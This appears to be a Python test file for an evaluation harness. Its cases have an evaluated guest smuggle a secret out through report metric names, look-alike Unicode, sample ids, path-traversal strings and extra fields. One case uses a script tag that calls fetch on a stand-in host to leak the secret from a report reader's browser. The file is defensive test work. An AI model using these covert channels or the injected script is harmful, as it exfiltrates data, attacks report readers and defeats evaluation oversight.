"""The secret in names: metrics, samples, groups, labels, notes."""

from tests.hostile.game.suite import suite

SCRIPT = "<script>fetch('//x/{}')</script>"


def instead(guest, values, **more):
    """One row as told, the others honest, and the end."""
    guest.row(guest.samples[0], values, **more)
    guest.finish()


@suite(leak="names")
def name_of_a_metric(guest, secret):
    """Reports a metric whose name spells the secret, in place of the declared one."""
    instead(guest, {f"s{secret:05b}": 1})


@suite(leak="names")
def one_more_metric(guest, secret):
    """Reports the declared metric and one more whose name spells the secret."""
    instead(guest, {"correct": 1, f"also_{secret:05b}": 1})


@suite(agreement="mixed", leak="per_sample", uses=3)
def missing_metrics(guest, secret):
    """Leaves out one or two of three metrics in one row: which ones are missing is the
    secret, for whoever lists what is there."""
    left = [field for place, field in enumerate(guest.fields) if not secret >> place & 1]
    kept = left if len(left) < len(guest.fields) else left[1:]
    instead(guest, {field.metric: 0 for field in kept})


@suite(leak="names", uses=2)
def letters_that_look_alike(guest, secret):
    """Names the metric with a Cyrillic letter, a combining accent, a wide letter or a zero-width
    space: it reads `correct` to people, and is another string each time."""
    names = ("c\u043errect", "correc\u0301t", "\uff43orrect", "corr\u200bect")
    instead(guest, {names[secret]: 1})


@suite(leak="names")
def long_names(guest, secret):
    """Names a metric with hundreds of letters, so that whatever cuts it or quotes it says how long
    it was."""
    instead(guest, {"m" * (33 + 100 * secret): 1})


@suite(leak="samples")
def name_of_a_sample(guest, secret):
    """Hands a row over for a sample that is not in the suite and whose id spells the secret."""
    guest.row(f"q-{secret:05b}", {"correct": 1})
    guest.finish()


@suite(leak="samples", uses=3)
def paths_instead_of_a_sample(guest, secret):
    """Puts dots, slashes, escapes, spaces, a query or nothing where a sample's id belongs in the
    address: eight addresses that a server may take for one, or repeat in its answer."""
    odd = ("..%2fend", "../q1", "%71%31", "q1/", "q1?x=1", "", "Q1", "q1#a")
    guest.row(odd[secret], {"correct": 1})
    guest.finish()


@suite(agreement="grouped", leak="requests", uses=2)
def groups_moved(guest, secret):
    """Sends the group along with the row and moves a sample to another one while it runs, so that
    two groups' figures shift against each other."""
    topic = ("law", "art", "other", "none")[secret]
    guest.raw_row("q0", b'{"epoch":0,"topic":"%b","values":{"correct":1}}' % topic.encode())
    guest.finish()


@suite(leak="requests")
def a_note_beside_the_score(guest, secret):
    """Adds a field of its own to a row, with a sentence for the reader of the report."""
    guest.raw_row("q0", b'{"epoch":0,"note":"it was %d","values":{"correct":1}}' % secret)
    guest.finish()


@suite(agreement="histogram", leak="figures", uses=2)
def labels_as_text(guest, secret):
    """Answers a category by its label, or by a label of its own, in place of the index."""
    label = ("complied", "refused", "partial", "Paris")[secret]
    instead(guest, {"outcome": label})


@suite(agreement="histogram", leak="figures")
def labels_that_do_not_exist(guest, secret):
    """Answers a category by an index past the last label, hoping for a column without a name."""
    instead(guest, {"outcome": 3 + secret})


@suite(leak="names")
def script_in_a_name(guest, secret):
    """Names a metric with a script that would tell the secret to another server from the browser of
    whoever opens the report."""
    instead(guest, {SCRIPT.format(secret): 1})


@suite(leak="samples")
def script_in_an_address(guest, secret):
    """Puts the same script into the address of a row, for pages and logs that repeat addresses."""
    guest.raw_row(SCRIPT.format(secret).replace(" ", "+"), b'{"epoch":0,"values":{"correct":1}}')
    guest.finish()
